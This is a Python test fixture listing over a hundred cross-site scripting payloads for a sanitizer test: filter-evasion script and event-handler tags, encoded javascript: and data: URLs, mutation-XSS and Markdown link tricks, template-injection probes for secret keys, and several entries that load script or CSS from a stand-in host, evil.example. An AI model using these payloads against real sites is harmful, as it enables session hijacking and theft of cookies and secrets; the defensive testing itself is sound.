"""A corpus of cross-site scripting vectors, sent through the site's real forms by test_xss_corpus.

Sources: the OWASP XSS filter evasion cheat sheet, PortSwigger's XSS cheat sheet,
mutation XSS (mXSS) write-ups on DOMPurify bypasses, and Markdown-specific tricks.
Every entry must be rendered inert: no element, attribute or URL that runs script.
"""

# fmt: off
SCRIPT_TAGS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/xss.js></SCRIPT>",
    "<script src=//evil.example/x.js></script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>script>alert(1)<</script>/script>",
    "<script>alert(1)",
    "<script\n>alert(1)</script\n>",
    "<ScRiPt>alert(String.fromCharCode(88,83,83))</sCrIpT>",
    "<script/xss src=//evil.example/x.js></script>",
    "<script type=module>import('//evil.example/x.js')</script>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><script href=data:,alert(1) />",
    "\"><script>alert(document.cookie)</script>",
    "'><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "<!--<script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
]

EVENT_HANDLERS = [
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=\"alert(1)\"/>",
    "<IMG SRC=x ONERROR=alert(1)>",
    "<img src=x oNeRrOr=alert`1`>",
    "<img/src=x/onerror=alert(1)>",
    "<img src=x onerror\n=alert(1)>",
    "<img src=x:alert(alt) onerror=eval(src) alt=0>",
    "<body onload=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<div onmouseover=\"alert(1)\">hover</div>",
    "<p onclick=alert(1)>click me</p>",
    "<a href=\"https://example.org\" onclick=\"alert(1)\">link</a>",
    "<a onfocus=alert(1) autofocus href=#>x</a>",
    "<span onpointerenter=alert(1)>x</span>",
    "<strong onanimationstart=alert(1) style=animation-name:x>x</strong>",
    "<table background=javascript:alert(1)><tr><td onmouseover=alert(1)>x</td></tr></table>",
    "<img src=\"x\" alt=\"\" title=\"\" onerror=\"alert(1)\" width=1>",
    "<img src=`x`onerror=alert(1)>",
    "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;(1)>",
    "<isindex type=image src=1 onerror=alert(1)>",
]

URL_SCHEMES = [
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
    "<a href=\" javascript:alert(1)\">x</a>",
    "<a href=\"java\tscript:alert(1)\">x</a>",
    "<a href=\"java\nscript:alert(1)\">x</a>",
    "<a href=\"java\rscript:alert(1)\">x</a>",
    "<a href=\"\x01javascript:alert(1)\">x</a>",
    "<a href=\"&#106;avascript:alert(1)\">x</a>",
    "<a href=\"&#106&#97&#118&#97&#115&#99&#114&#105&#112&#116&#58alert(1)\">x</a>",
    "<a href=\"&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099"
    "&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)\">x</a>",
    "<a href=\"&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)\">x</a>",
    "<a href=\"&#x6a;avascript&#x3a;alert(1)\">x</a>",
    "<a href=\"javascript&colon;alert(1)\">x</a>",
    "<a href=\"jav&Tab;ascript:alert(1)\">x</a>",
    "<a href=\"jav&NewLine;ascript:alert(1)\">x</a>",
    "<a href=\"javascript&#58;alert(1)\">x</a>",
    "<a href=\"javascript%3Aalert(1)\">x</a>",
    "<a href=\"%6A%61%76%61%73%63%72%69%70%74:alert(1)\">x</a>",
    "<a href=\"ｊａｖａｓｃｒｉｐｔ：alert(1)\">x</a>",
    "<a href=\"java\u200bscript:alert(1)\">x</a>",
    "<a href=\"\u202ejavascript:alert(1)\">x</a>",
    "<a href=\"vbscript:msgbox(1)\">x</a>",
    "<a href=\"VBScript:MsgBox(1)\">x</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
    "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
    "<a href=\"DATA:text/html,<script>alert(1)</script>\">x</a>",
    "<a href=\"  data:image/svg+xml,<svg onload=alert(1)>\">x</a>",
    "<img src=\"javascript:alert(1)\">",
    "<img src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\">",
    "<img src=\"vbscript:msgbox(1)\">",
    "<img srcset=\"javascript:alert(1) 1x\">",
    "<a href=\"javascript://example.org/%0Aalert(1)\">x</a>",
    "<a href=\"javascript:/*https://example.org*/alert(1)\">x</a>",
    "<a href=\"https:javascript:alert(1)\">x</a>",
    "<a href=\"&#x0000006A;avascript:alert(1)\">x</a>",
    "<a href=\"javascript&#0058;alert(1)\">x</a>",
    "<a href=\"javas&#99;ript:alert(1)\">x</a>",
    "<a href='javascript:alert(\"1\")' title='x'>x</a>",
    "<a href=javascript:alert(1)>unquoted</a>",
    "<a href=\"livescript:alert(1)\">x</a>",
]

SVG_MATHML = [
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a><animate attributeName=href values=javascript:alert(1) /><text x=20 y=20>click</text></a></svg>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text x=20 y=20>click</text></a></svg>",
    "<svg><set attributeName=onmouseover to=alert(1) />",
    "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'>"
    "<image href='1' onerror='alert(1)' /></svg>#x\" />",
    "<svg><foreignObject><iframe srcdoc=\"<script>alert(1)</script>\"></iframe></foreignObject></svg>",
    "<svg><style>@import 'javascript:alert(1)';</style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<math href=\"javascript:alert(1)\">CLICKME</math>",
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>click</maction></math>",
    "<math><mi xlink:href=\"data:x,<script>alert(1)</script>\">x</mi></math>",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<svg><title><a href=\"</title><img src=x onerror=alert(1)>\">",
]

MUTATION_AND_BROKEN = [
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<style><img src=x onerror=alert(1)></style>",
    "<title><img src=x onerror=alert(1)></title>",
    "<textarea><img src=x onerror=alert(1)></textarea>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<img src=\"x\" alt=\"``onerror=alert(1)\">",
    "<a title=\"a\"onmouseover=alert(1)//\">x</a>",
    "<img \"\"\"><script>alert(1)</script>\">",
    "<img src=x onerror=alert(1)//",
    "<iframe src=javascript:alert(1)",
    "<div <img src=x onerror=alert(1)>>",
    "<a href=\"https://example.org\"\" onclick=alert(1)>x</a>",
    "<p><a href=\"x</p><script>alert(1)</script>\">",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<?xml-stylesheet href=\"javascript:alert(1)\"?>",
    "<![if true]><img src=x onerror=alert(1)><![endif]>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<template><img src=x onerror=alert(1)></template>",
]

CSS = [
    "<div style=\"background:url(javascript:alert(1))\">x</div>",
    "<div style=\"width: expression(alert(1))\">x</div>",
    "<p style=\"xss:expr/*XSS*/ession(alert(1))\">x</p>",
    "<span style=\"background-image:url(&quot;javascript:alert(1)&quot;)\">x</span>",
    "<div style=\"behavior: url(xss.htc)\">x</div>",
    "<div style=\"-moz-binding:url(https://evil.example/xss.xml#xss)\">x</div>",
    "<style>body{background:url(\"javascript:alert(1)\")}</style>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<link rel=stylesheet href=javascript:alert(1)>",
    "<div style=\"background:url(jav\\61script:alert(1))\">x</div>",
]

EMBEDDING = [
    "<iframe src=\"https://evil.example\"></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<iframe srcdoc=\"&lt;img src=x onerror=alert(1)&gt;\"></iframe>",
    "<object data=\"data:text/html,<script>alert(1)</script>\"></object>",
    "<object data=\"javascript:alert(1)\"></object>",
    "<embed src=\"javascript:alert(1)\">",
    "<embed src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\">",
    "<applet code=\"javascript:alert(1)\"></applet>",
    "<base href=\"javascript:alert(1)//\">",
    "<base href=\"https://evil.example/\">",
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
    "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example\">",
    "<meta charset=\"x-imap4-modified-utf7\">",
    "<form action=\"javascript:alert(1)\"><button>go</button></form>",
    "<form><button formaction=javascript:alert(1)>go</button></form>",
    "<input type=image src=x onerror=alert(1)>",
    "<frameset><frame src=javascript:alert(1)></frameset>",
    "<video poster=javascript:alert(1)></video>",
    "<blockquote cite=\"javascript:alert(1)\">q</blockquote>",
    "<a ping=\"https://evil.example\" href=\"https://example.org\">x</a>",
]

TEMPLATE_INJECTION = [
    "{{ request.user.password }}",
    "{% debug %}",
    "{{ settings.SECRET_KEY }}{% load static %}",
    "{{7*7}} ${7*7} <%= 7*7 %> #{7*7}",
    "{{constructor.constructor('alert(1)')()}}",
]

MARKDOWN = [
    "[click](javascript:alert(1))",
    "[click](JAVASCRIPT:alert(1))",
    "[click](<javascript:alert(1)>)",
    "[click]( javascript:alert(1) )",
    "[click](javascript&#58;alert(1))",
    "[click](&#x6A;avascript:alert(1))",
    "[click](java%0ascript:alert(1))",
    "[click](vbscript:msgbox(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[click][ref]\n\n[ref]: javascript:alert(1)",
    "[click][ref]\n\n[ref]: <javascript:alert(1)> \"title\"",
    "![img](javascript:alert(1))",
    "![img](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "![x\" onerror=\"alert(1)](https://example.org/a.png)",
    "![x](https://example.org/a.png \"title\\\" onerror=\\\"alert(1)\")",
    "<javascript:alert(1)>",
    "<vbscript:msgbox(1)>",
    "<data:text/html,<script>alert(1)</script>>",
    "[x](https://example.org \"a\\\" onmouseover=\\\"alert(1)\")",
    "[x](https://example.org 'a\" onmouseover=\"alert(1)')",
    "[a](https://example.org)<img src=x onerror=alert(1)>",
    "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```",
    "    <img src=x onerror=alert(1)>",
    "> <script>alert(1)</script>",
    "* <a href=\"javascript:alert(1)\">item</a>",
    "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
    "[<img src=x onerror=alert(1)>](https://example.org)",
    "[x](javascript:alert(1) \"title\")",
    "[x](\\javascript:alert(1))",
    "[x](javascript\\:alert(1))",
    "[x](#\" onclick=\"alert(1))",
    "**<img src=x onerror=alert(1)>**",
    "<div>\n\n[x](javascript:alert(1))\n\n</div>",
    "<https://example.org/\"><script>alert(1)</script>>",
]
# fmt: on

VECTORS = (
    SCRIPT_TAGS
    + EVENT_HANDLERS
    + URL_SCHEMES
    + SVG_MATHML
    + MUTATION_AND_BROKEN
    + CSS
    + EMBEDDING
    + TEMPLATE_INJECTION
    + MARKDOWN
)
assert len(VECTORS) == len(set(VECTORS)) >= 100, "the corpus has duplicates or fewer than 100 vectors"
